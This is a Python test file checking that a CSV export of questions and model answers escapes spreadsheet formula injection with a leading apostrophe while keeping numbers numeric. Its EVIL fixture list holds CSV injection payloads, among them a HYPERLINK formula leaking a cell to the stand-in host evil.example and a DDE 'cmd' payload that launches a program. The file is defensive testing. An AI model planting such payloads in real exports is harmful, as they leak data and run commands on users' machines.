"""A compare export opened in a spreadsheet never runs a formula that came from a document, a
question or a model's answer: cells beginning with = + - @ (or their full-width forms, a tab or
a carriage return) are written with a leading apostrophe; numbers stay numbers."""

from __future__ import annotations

import csv
import io

from engine.lab.questions import Question
from engine.lab.report import to_csv
from engine.lab.runs import AnswerRow

EVIL = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
        "\tTAB", "＝１＋１"]


def test_formula_cells_are_quoted_and_numbers_are_not() -> None:
    questions = {1: [Question(key=f"k{i}", text=t, references=(t,), source=t) for i, t in enumerate(EVIL)]}
    answers = [AnswerRow(key=f"k{i}", arm="a", round=1, text=t, status="complete",
                         sources=[{"path": t, "location": "", "cited": True}], scores={"f1": -0.5}, seconds=1.5)
               for i, t in enumerate(EVIL)]
    rows = list(csv.reader(io.StringIO(to_csv(questions, answers, set()))))
    head, body = rows[0], rows[1:]
    text_columns = [head.index(c) for c in ("question", "references", "source", "answer", "cited_sources")]
    for row in body:
        for c in text_columns:
            assert row[c].startswith("'"), (head[c], row[c])
        assert row[head.index("f1")] == "-0.5" and row[head.index("seconds")] == "1.5"
    assert body[0][head.index("answer")] == "'" + EVIL[0]   # the text itself is kept whole
